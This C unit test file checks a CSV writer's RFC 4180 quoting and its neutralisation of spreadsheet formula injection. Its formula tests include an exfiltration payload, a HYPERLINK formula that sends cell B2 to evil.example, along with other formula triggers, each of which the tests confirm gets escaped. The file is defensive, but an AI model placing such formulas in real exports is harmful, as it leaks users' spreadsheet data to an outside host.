/* test_csv.c — the CSV writer: RFC 4180 quoting and formula neutralisation. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <string.h>

#include "csv.h"

static void row(struct buf *b, const char *a, int text)
{
	buf_reset(b);
	if (text)
		csv_text(b, a);
	else
		csv_field(b, a);
	csv_field(b, "x");
	csv_end_row(b);
}

static void test_quoting(void **state)
{
	struct buf b;
	buf_init(&b, 0);
	row(&b, "张三", 0);
	assert_string_equal(buf_str(&b), "张三,x\r\n");
	row(&b, "a,b", 0);
	assert_string_equal(buf_str(&b), "\"a,b\",x\r\n");
	row(&b, "say \"hi\"", 0);
	assert_string_equal(buf_str(&b), "\"say \"\"hi\"\"\",x\r\n");
	row(&b, "two\nlines", 0);
	assert_string_equal(buf_str(&b), "\"two\nlines\",x\r\n");
	row(&b, "", 0);
	assert_string_equal(buf_str(&b), ",x\r\n");
	buf_free(&b);
}

static void test_formulas(void **state)
{
	struct buf b;
	buf_init(&b, 0);
	row(&b, "=HYPERLINK(\"http://x\")", 1);
	assert_string_equal(buf_str(&b), "\"'=HYPERLINK(\"\"http://x\"\")\",x\r\n");
	row(&b, "+1+1", 1);
	assert_string_equal(buf_str(&b), "'+1+1,x\r\n");
	row(&b, "@SUM(A1)", 1);
	assert_string_equal(buf_str(&b), "'@SUM(A1),x\r\n");
	row(&b, "-A1", 1);
	assert_string_equal(buf_str(&b), "'-A1,x\r\n");
	row(&b, "-5", 1); /* a number stays a number */
	assert_string_equal(buf_str(&b), "-5,x\r\n");
	row(&b, "-0.25", 1);
	assert_string_equal(buf_str(&b), "-0.25,x\r\n");
	/* a leading '-' and a digit is not enough: only a cell that is wholly a number stays bare */
	row(&b, "-1+HYPERLINK(\"https://evil.example/?\"&B2,\"点击\")", 1);
	assert_string_equal(buf_str(&b),
			    "\"'-1+HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"点击\"\")\",x\r\n");
	row(&b, "-1-1", 1);
	assert_string_equal(buf_str(&b), "'-1-1,x\r\n");
	row(&b, "-5.", 1);
	assert_string_equal(buf_str(&b), "'-5.,x\r\n");
	row(&b, "-", 1);
	assert_string_equal(buf_str(&b), "'-,x\r\n");
	/* tab and CR are triggers too (Excel strips them and runs what follows) */
	row(&b, "\t=1+1", 1);
	assert_string_equal(buf_str(&b), "'\t=1+1,x\r\n");
	row(&b, "\r=1+1", 1);
	assert_string_equal(buf_str(&b), "\"'\r=1+1\",x\r\n");
	row(&b, "珠晖区/司法局", 1);
	assert_string_equal(buf_str(&b), "珠晖区/司法局,x\r\n");
	row(&b, "=1", 0); /* csv_field writes what it is given */
	assert_string_equal(buf_str(&b), "=1,x\r\n");
	buf_free(&b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_quoting),
		cmocka_unit_test(test_formulas),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
